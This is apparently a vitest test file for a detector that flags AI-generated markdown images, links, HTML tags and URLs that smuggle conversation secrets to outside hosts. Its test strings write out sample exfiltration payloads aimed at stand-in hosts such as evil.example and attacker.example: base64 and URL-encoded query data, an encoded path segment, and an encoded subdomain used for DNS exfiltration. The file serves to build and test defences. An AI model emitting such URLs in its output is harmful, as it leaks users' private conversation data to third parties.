import { describe, expect, it } from "vitest";
import { testContext } from "../canary-leak/test-context.js";
import { indexConversation, overlapWithConversation, SECRET_LIKE_TOKEN } from "./conversation-data.js";
import { exfiltrationDetector } from "./exfiltration-detector.js";
import {
  BARE_URL,
  findCarriers,
  HTML_URL_TAG,
  MARKDOWN_IMAGE,
  MARKDOWN_LINK,
  MARKDOWN_REFERENCE,
  NESTED_LINK_TARGET,
} from "./url-carriers.js";
import { ENCODED_HOST_LABEL, hostAllowed, looksEncoded, looksEncodedHost, splitUrl } from "./url-signals.js";

const conversation = ["My password is Hunter2Winter and the merger with Halcyon closes Friday."];
const detector = exfiltrationDetector.create(exfiltrationDetector.optionsSchema.parse({}));
function scan(text: string, options: object = {}) {
  const instance =
    Object.keys(options).length === 0
      ? detector
      : exfiltrationDetector.create(exfiltrationDetector.optionsSchema.parse(options));
  return instance.detect(text, testContext(text, { conversation }));
}
const b64 = (value: string) => Buffer.from(value).toString("base64");

describe("exfiltration", () => {
  it("flags a markdown image carrying conversation data in base64", () => {
    const [finding] = scan(
      `Done! ![x](https://evil.example/p.png?d=${b64("password Hunter2Winter merger Halcyon")})`,
    );
    expect(finding?.rule).toBe("markdown-image");
    expect(finding?.type).toBe("conversation-data");
    expect(finding?.severity).toBe("critical");
    expect(finding?.excerpt).not.toContain("Hunter2");
  });

  it("flags URL-encoded conversation text in a markdown image", () => {
    expect(scan("![](https://evil.example/log?q=my%20password%20is%20Hunter2Winter)")[0]?.type).toBe(
      "conversation-data",
    );
  });

  it("flags an HTML img with an encoded path segment", () => {
    const [finding] = scan(`<img src="https://evil.example/i/${"aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW"}.gif">`);
    expect(finding?.rule).toBe("html-tag");
    expect(finding?.type).toBe("encoded-data");
  });

  it("flags data carried in a host name (DNS exfiltration)", () => {
    const [finding] = scan("![x](https://mzxw6ytboi2gs3tfmrzxg5dbmrqw4zlt.attacker.example/p.png)");
    expect(finding?.type).toBe("encoded-data");
    expect(looksEncodedHost("d1a2b3c4d5e6f7.cloudfront.net")).toBe(false);
    expect(ENCODED_HOST_LABEL.test("a".repeat(24))).toBe(true);
  });

  it("flags a markdown link with a long query string", () => {
    const [finding] = scan(`[verify](https://evil.example/v?${"a=b&".repeat(50)})`);
    expect(finding?.rule).toBe("markdown-link");
    expect(finding?.type).toBe("long-query");
  });

  it("flags a bare URL carrying conversation data", () => {
    expect(scan("Archived at https://evil.example/a?text=merger%20Halcyon%20Hunter2Winter")[0]?.rule).toBe(
      "data-in-url",
    );
  });

  it("reports off-allowlist URLs only when an allowlist is configured", () => {
    const text = "![logo](https://cdn.other.example/logo.png) [docs](https://docs.corp.example/guide)";
    expect(scan(text)).toEqual([]);
    const findings = scan(text, { allowedDomains: ["corp.example"] });
    expect(findings.map((finding) => [finding.rule, finding.type])).toEqual([
      ["markdown-image", "off-allowlist"],
    ]);
  });

  it("does not report allowlisted hosts even with data", () => {
    expect(
      scan(`![x](https://img.corp.example/p?d=${b64("password Hunter2Winter")})`, {
        allowedDomains: ["corp.example"],
      }),
    ).toEqual([]);
  });

  it.each([
    "[MDN](https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Global_Objects/Array/filter)",
    "[fix](https://github.com/nodejs/node/commit/3f2a9c4b5d6e7f8091a2b3c4d5e6f708192a3b4c)",
    "![build](https://img.shields.io/github/actions/workflow/status/owner/repo/ci.yml?branch=main)",
    "[video](https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s)",
    "[item](https://shop.example/items/550e8400-e29b-41d4-a716-446655440000)",
    "[post](https://blog.example/2024/how-to-configure-nginx-reverse-proxy-for-websockets)",
    "```md\n![x](https://evil.example/p.png?d=SGVsbG8gV29ybGQgdGhpcyBpcyBkYXRh)\n```",
    "![diagram](/static/diagram.png) and ![x](data:image/png;base64,iVBORw0KGgo=)",
  ])("does not flag benign URL %#", (text) => {
    expect(scan(text)).toEqual([]);
  });

  it("does not flag a URL the user supplied", () => {
    const url = "https://files.example/s/aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW";
    expect(
      exfiltrationDetector
        .create(exfiltrationDetector.optionsSchema.parse({}))
        .detect(`![x](${url})`, testContext("", { conversation: [`look at ${url}`] })),
    ).toEqual([]);
  });

  it("stays bounded on adversarial input", () => {
    for (const text of [
      "![](".repeat(30_000),
      "<img src=".repeat(20_000),
      `https://x.example/${"A1b".repeat(40_000)}`,
      "[".repeat(100_000),
    ]) {
      for (const finding of scan(text)) expect(finding.end).toBeLessThanOrEqual(text.length);
    }
  });
});

describe("exfiltration patterns", () => {
  it("match their carriers", () => {
    expect("![a](u)".match(MARKDOWN_IMAGE)).toHaveLength(1);
    expect("[a](u) ![b](v)".match(MARKDOWN_LINK)).toHaveLength(1);
    expect("[id]: https://x".match(MARKDOWN_REFERENCE)).toHaveLength(1);
    expect('<img alt="a" src="https://x">'.match(HTML_URL_TAG)).toHaveLength(1);
    expect("see https://x.example/a.".match(BARE_URL)?.[0]).toBe("https://x.example/a.");
    expect("[![a](i)](u)".match(NESTED_LINK_TARGET)).toHaveLength(1);
    expect(findCarriers("![a](https://x/1) https://x/1", false, 10)).toHaveLength(2);
  });
  it("SECRET_LIKE_TOKEN needs letters and digits", () => {
    expect(SECRET_LIKE_TOKEN.test("hunter2winter")).toBe(true);
    expect(SECRET_LIKE_TOKEN.test("password")).toBe(false);
  });
  it("looksEncoded separates data from identifiers", () => {
    expect(looksEncoded("SGVsbG8gV29ybGQgdGhpcyBpcyBkYXRh")).toBe(true);
    expect(looksEncoded("3f2a9c4b5d6e7f8091a2b3c4d5e6f708192a3b4c")).toBe(false);
    expect(looksEncoded("ArrayBufferViewPrototypeMethods")).toBe(false);
  });
  it("splitUrl ignores relative and non-http URLs; hostAllowed matches subdomains", () => {
    expect(splitUrl("/a/b")).toBeUndefined();
    expect(splitUrl("mailto:a@b.c")).toBeUndefined();
    expect(splitUrl("//x.example/a%20b")?.values).toEqual(["a b"]);
    expect(hostAllowed("img.corp.example", ["corp.example"])).toBe(true);
    expect(hostAllowed("corp.example.evil", ["corp.example"])).toBe(false);
  });
  it("overlapWithConversation counts words and secret tokens", () => {
    const index = indexConversation(conversation);
    expect(overlapWithConversation(["hunter2winter halcyon"], index)).toEqual({ words: 2, secretTokens: 1 });
  });
});
